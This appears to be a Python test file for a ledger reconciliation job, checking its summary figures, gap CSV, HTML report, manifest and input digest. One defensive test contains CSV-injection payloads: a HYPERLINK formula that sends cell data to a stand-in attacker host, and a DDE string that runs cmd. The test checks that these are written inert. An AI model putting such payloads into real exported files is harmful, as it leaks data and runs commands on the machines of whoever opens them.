"""The job's outputs from ledgers: summary.json, gaps.csv, report.html, manifest.json and the status/exit code."""

import csv
from datetime import timedelta

import orjson
from bs4 import BeautifulSoup

from reconcile import config, ledger
from reconcile import run as job
from reconcile.calibrate import calibrate
from ledgers import DAY, label, make
from tinyday import CONFIG, DLQ, L, SINK, produce, results


def test_summary_figures(tmp_path):
    s = produce(tmp_path).summary
    assert s == orjson.loads((tmp_path / "summary.json").read_bytes())
    assert s["verdicts"] == {"delivered": 5, "duplicated": 2, "dead_lettered": 1, "lost_after_bus": 1,
                             "lost_before_bus": 2, "pending": 1, "unverified": 0, "not_emitted": 0, "excluded": 1,
                             "recovered": 0}
    assert (s["orphans"], s["unlogged_at_bus"], s["events"]) == (1, 1, 13)
    assert s["hops"][0] | {} == {"name": "zendesk_to_bus", "in": 12, "out": 10, "lost": 2, "pending": 0, "held": 0,
                                 "recovered": 0,
                                 "loss_rate": round(2 / 12, 8), "threshold": 0.0, "over_threshold": True,
                                 "unsettled": None}
    assert (s["status"], s["exit_code"]) == ("loss", 2)
    assert [i["source"] for i in s["inputs"]] == ["zendesk", "bus_log", "sink", "dlq", "metrics"]
    assert s["inputs"][3]["rejected"] == 1


def test_thresholds_turn_loss_into_pending(tmp_path):
    s = produce(tmp_path, zendesk_to_bus=0.5, bus_to_sink=0.5).summary
    assert (s["status"], s["exit_code"]) == ("pending", 1)


def test_incomplete_input_beats_everything(tmp_path):
    s = produce(tmp_path, complete=False, zendesk_to_bus=1, bus_to_sink=1).summary
    assert (s["status"], s["exit_code"]) == ("incomplete", 3)
    # the sink read in part holds every loss: none is called, each is counted as held at its hop
    hops = {h["name"]: (h["lost"], h["held"]) for h in s["hops"]}
    assert hops == {"zendesk_to_bus": (0, 2), "bus_to_sink": (0, 2)}, hops
    # the funnel chart says so too: it read "-0 lost (0.000 %)" in the grey of no loss (outputs review)
    from bs4 import BeautifulSoup
    chart = BeautifulSoup((tmp_path / "report.html").read_text(), "html.parser").select_one("svg.funnel-chart")
    assert [t.get_text() for t in chart.select("text.flost")] == ["−0 lost (0.000 %), not final"] * 2


def test_gaps_csv_lists_every_event_not_delivered_once(tmp_path):
    produce(tmp_path)
    rows = list(csv.DictReader((tmp_path / "gaps.csv").open()))
    assert [(r["verdict"], r["source_id"] or label(r["eb_id"])) for r in rows] == [
        ("lost_before_bus", "6"), ("duplicated", "2"), ("dead_lettered", "3"), ("lost_after_bus", "4"),
        ("lost_before_bus", "8"), ("delivered", "12"), ("duplicated", "13"), ("orphan", "L"), ("pending", "5")]


def test_csv_cells_a_spreadsheet_would_run_are_written_inert(tmp_path):
    """Text from the stores that a spreadsheet would run as a formula (OWASP "CSV Injection": a cell starting with
    =, +, -, @, tab or CR) is written behind a `'` in gaps.csv; calibrate reads it back as it was."""
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    dde = "@SUM(1+1)*cmd|' /C calc'!A0"
    res = results()
    res["sink"] = ledger.SourceResult("sink", make("sink", [
        dict(r, event_type=formula) if r["eb_id"] == L["eb_id"] else r for r in SINK]))
    res["dlq"] = ledger.SourceResult("dlq", make("dlq", [dict(DLQ[0], error_code=dde), *DLQ[1:]]))
    cfg = config.build(None, CONFIG)
    window = job.window_from(cfg, DAY, DAY + timedelta(days=1), DAY + timedelta(hours=26))
    job.finish(cfg, window, tmp_path, res, job.write_evidence(res, tmp_path / "evidence"), audience="daily",
               generated_at=DAY + timedelta(hours=26))
    rows = list(csv.DictReader((tmp_path / "gaps.csv").open()))
    guarded = [(r["verdict"], k, v) for r in rows for k, v in r.items() if v.startswith("'")]
    assert guarded == [("dead_lettered", "cause", "'" + dde), ("dead_lettered", "error_code", "'" + dde),
                       ("orphan", "kind", "'" + formula)]
    assert {b["bus_type"]: b["orphans"] for b in calibrate([tmp_path]).bus_types}[formula] == 1


def test_report_shows_the_summary_figures(tmp_path):
    s = produce(tmp_path).summary
    soup = BeautifulSoup((tmp_path / "report.html").read_text(), "html.parser")
    figures = {el["data-figure"]: el.get_text(strip=True) for el in soup.select("[data-figure]")}
    assert figures["status"] == "loss"
    for name, count in s["verdicts"].items():
        assert figures[f"verdicts.{name}"] == f"{count:,}"
    assert figures["hops.bus_to_sink.in"] == "10"
    assert figures["inputs.dlq.rejected"] == "1"
    assert len(soup.select("table.gaps tbody tr")) == 9


def test_manifest_names_every_file_with_its_digest(tmp_path):
    produce(tmp_path)
    m = orjson.loads((tmp_path / "manifest.json").read_bytes())
    paths = {f["path"] for f in m["files"]}
    assert {"summary.json", "gaps.csv", "report.html", "evidence/zendesk.parquet", "evidence/sink.parquet",
            "evidence/dlq.rejects.parquet"} <= paths
    assert set(m["queries"]) >= {"verdicts.sql", "hop_a.sql", "emission_model.csv", "verdicts.csv"}
    assert m["versions"]["duckdb"]


def test_the_inputs_digest_is_over_what_was_read_not_when():
    """Two reads of the same Zendesk pages, an hour apart, show the same digest (fetched_at differed: an auditor
    comparing runs by it concluded the inputs differed); a page whose bytes differ shows another."""
    from reconcile.summary import fingerprint_summary
    page = {"file": "p1.json", "request": "/api/v2/incremental/ticket_events.json?start_time=0", "start_time": 0,
            "end_time": 60, "count": 2, "sha256": "ab" * 32}
    first = fingerprint_summary([dict(page, fetched_at="2026-11-24T02:00:00Z")])
    later = fingerprint_summary([dict(page, fetched_at="2026-11-24T03:00:00Z")])
    other = fingerprint_summary([dict(page, sha256="cd" * 32, fetched_at="2026-11-24T02:00:00Z")])
    assert first == later and first["digest"] != other["digest"]
